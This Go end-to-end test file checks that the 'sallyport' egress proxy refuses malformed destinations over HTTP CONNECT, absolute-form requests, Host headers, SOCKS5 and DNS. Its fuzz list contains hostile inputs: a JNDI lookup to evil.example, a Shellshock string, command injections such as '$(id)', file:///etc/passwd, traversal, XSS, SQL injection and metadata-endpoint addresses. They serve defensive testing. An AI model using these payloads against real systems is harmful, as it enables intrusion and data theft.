// Malformed targets: text that is not a destination is sent in the place of a
// destination, to every front end.

package e2e

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// malformedTexts are texts that clients, editors and attackers write in the place
// of a host and port: forms of addresses, parts of URLs, markup, format strings,
// and Unicode that looks or sorts like other text.
var malformedTexts = []string{
	"", " ", ".", "..", "-", "_", "*", "*.site.example", "%", "%00", "%2e", "\\", "/", "//", "?", "#", "@", ":", "::", ":443", "[]", "[]:443", "[::]:443", "[::1%25lo]:443",
	"undefined", "null", "NaN", "-1", "1e309", "1/0", "0x7f.1", "0x7f000001", "2130706433", "017700000001", "127.1", "127.0.0.1.", "0", "0.0.0.0", "1.2.3.4.5", "256.256.256.256",
	"[::ffff:127.0.0.1]:443", "[fe80::1%eth0]:443", "::1", "169.254.169.254", "fd00:ec2::254", "localhost", "localhost.localdomain", "ip6-localhost", "metadata.google.internal",
	"a@always.site.example", "always.site.example@evil.example", "always.site.example#.evil.example", "always.site.example/.evil.example", "evil.example?always.site.example",
	"evil.example\\always.site.example", "evil.example;always.site.example", "evil.example,always.site.example", "evil.example%2ealways.site.example", "evil.example%00.site.example",
	"always.site.example:443:80", "always.site.example:", "always.site.example:0", "always.site.example:65536", "always.site.example:-1", "always.site.example:+443",
	"always.site.example:4 43", "always.site.example:0x1bb", "always.site.example:443/", "always.site.example:https", "always.site.example:٤٤٣",
	"http://", "http:///", "http://always.site.example", "https://always.site.example:443", "ftp://a", "file:///etc/passwd", "javascript:alert(1)", "data:,x", "about:blank", "//always.site.example",
	"always..site.example", ".always.site.example", "-always.site.example", "always-.site.example", "always.site.example..", "always_.site.example", "xn--.example", "xn--a.example", "xn--always.site.example",
	"ａlways.site.example", "always。site。example", "always．site．example", "alwaуs.site.example", "always.site.exampl\u212f", "\u202ealways.site.example", "always\u200b.site.example", "always\u00ad.site.example",
	"always.site.example\ufeff", "ALWAYS.ſITE.example", "İstanbul.example", "straße.example", "①②⑦.0.0.1", "１２７.0.0.1", "👩‍💻.example", "e\u0301.example", "Z͑ͫa̴͖l͖g̢o.example", "مثال.example", "例え.jp", "\U000e0061.example",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "';DROP TABLE t;--", "' OR 1=1 -- ", "%s%s%n%x", "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "|id", "; id", "&& id", "../../etc/passwd",
	"..\\..\\windows", "{\"a\":1}", "[1,2]", "<?xml version=\"1.0\"?>", "(){ :;}; id", "\x1b[31mred", "\x1b]0;title\a", "\b\b\b", "a\x00b.example", "\xff\xfe", "\xc0\xae", "\xed\xa0\x80", "\xf4\x90\x80\x80",
	strings.Repeat("a", 64) + ".example", strings.Repeat("a.", 127) + "a", strings.Repeat("a", 255), strings.Repeat("9", 200), strings.Repeat(".", 100), strings.Repeat("%25", 60),
}

// malformedTargets returns malformedTexts, and the permitted name with each byte
// inserted before, inside and after it, unless the result is the same name.
func malformedTargets() []string {
	const name = "always.site.example"
	targets := append([]string(nil), malformedTexts...)
	for c := range 256 {
		for _, at := range []int{0, 3, 6, len(name)} {
			malformed := name[:at] + string([]byte{byte(c)}) + name[at:]
			if !strings.EqualFold(strings.TrimSuffix(malformed, "."), name) {
				targets = append(targets, malformed)
			}
		}
	}
	return targets
}

// TestMalformedTargets asserts that a malformed target is never served or resolved,
// by any front end. Each target causes one denial, every line of the journal is
// whole, and sallyport continues.
func TestMalformedTargets(t *testing.T) {
	t.Parallel()
	s := newService(t)
	s.configure(t, s.configuration())
	s.activate(t)
	if err := tryConnect(s, "always.site.example", s.allowed.addr.Port()); err != nil {
		t.Fatalf("the name inside the malformed texts: %v", err)
	}
	served, asked := s.allowed.seen.Load(), s.upstream.total()
	if served == 0 || asked == 0 {
		t.Fatal("the site and the resolver do not count")
	}
	tries := 0
	for _, target := range malformedTargets() {
		for way, try := range targetSenders {
			answered, err := try(s, target)
			if err != nil {
				t.Errorf("%s %q: %v", way, target, err)
			}
			if answered {
				tries++
			}
		}
	}
	if n := s.allowed.seen.Load() - served + s.denied.seen.Load(); n != 0 {
		t.Errorf("%d connections to a site", n)
	}
	if n := s.upstream.total() - asked; n != 0 {
		t.Errorf("the resolver was asked %d times", n)
	}
	if err := tryConnect(s, "always.site.example", s.allowed.addr.Port()); err != nil {
		t.Errorf("afterwards: %v", err)
	}
	eventually(t, longestWait, "a denial for each try", func() error {
		if n := s.journal().counted(); n != tries {
			return errorf("%d denials of %d tries", n, tries)
		}
		return nil
	})
	if _, torn := s.journal().read(); len(torn) > 0 {
		t.Errorf("%d lines of the journal are not JSON, for example %q", len(torn), torn[0])
	}
	t.Logf("%d tries", tries)
}

// A targetSender sends a target to a front end. It reports whether the target
// counts as an attempt, and returns an error if it was not refused.
type targetSender func(s *service, target string) (attempt bool, err error)

var targetSenders = map[string]targetSender{
	"CONNECT": func(s *service, target string) (bool, error) {
		return refusedHTTP(s, "CONNECT "+withPort(s, target)+" HTTP/1.1\r\nHost: x\r\n\r\n")
	},
	"absolute form": func(s *service, target string) (bool, error) {
		return refusedHTTP(s, "GET http://"+withPort(s, target)+"/ HTTP/1.1\r\nHost: x\r\n\r\n")
	},
	"Host": func(s *service, target string) (bool, error) {
		return refusedHTTP(s, "GET / HTTP/1.1\r\nHost: "+withPort(s, target)+"\r\n\r\n")
	},
	"SOCKS5": refusedSOCKS,
	"DNS":    refusedQuery,
}

// withPort adds the permitted port if the target has none.
func withPort(s *service, target string) string {
	if strings.Contains(target, ":") {
		return target
	}
	return fmt.Sprintf("%s:%d", target, s.allowed.addr.Port())
}

func refusedHTTP(s *service, head string) (bool, error) {
	c, err := dialDoor(s.http)
	if err != nil {
		return false, err
	}
	defer c.Close()
	if _, err := io.WriteString(c, head); err != nil {
		return true, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return true, err
	}
	if resp.StatusCode < 400 || resp.Header.Get("X-Sallyport-Reason") == "" {
		return true, fmt.Errorf("%s, reason %q", resp.Status, resp.Header.Get("X-Sallyport-Reason"))
	}
	return true, nil
}

// refusedSOCKS asks for a target as a domain name (RFC 1928, section 5).
func refusedSOCKS(s *service, target string) (bool, error) {
	if len(target) > 255 {
		return false, nil
	}
	c, err := dialDoor(s.socks)
	if err != nil {
		return false, err
	}
	defer c.Close()
	ask := append([]byte{5, 1, 0, 5, 1, 0, 3, byte(len(target))}, target...)
	if _, err := c.Write(binary.BigEndian.AppendUint16(ask, s.allowed.addr.Port())); err != nil {
		return true, err
	}
	reply, err := io.ReadAll(c)
	if len(reply) < 4 && err == nil || len(reply) >= 4 && reply[3] == 0 {
		return true, fmt.Errorf("reply %x", reply)
	}
	return true, nil
}

// refusedQuery asks for a target's labels, with any octets in them.
func refusedQuery(s *service, target string) (bool, error) {
	q := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(target, ".") {
		if len(label) == 0 || len(label) > 63 {
			return false, nil // no message can hold these labels
		}
		q = append(append(q, byte(len(label))), label...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	c, err := net.Dial("udp", s.dns)
	if err != nil {
		return false, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(longestWait))
	if _, err := c.Write(q); err != nil {
		return false, err
	}
	reply := make([]byte, 2048)
	n, err := c.Read(reply)
	if err != nil {
		return true, err
	}
	if rcode := reply[3] & 15; n < 12 || rcode == 0 || !bytes.Equal(reply[6:8], []byte{0, 0}) {
		return true, fmt.Errorf("reply %x", reply[:n])
	}
	return true, nil
}
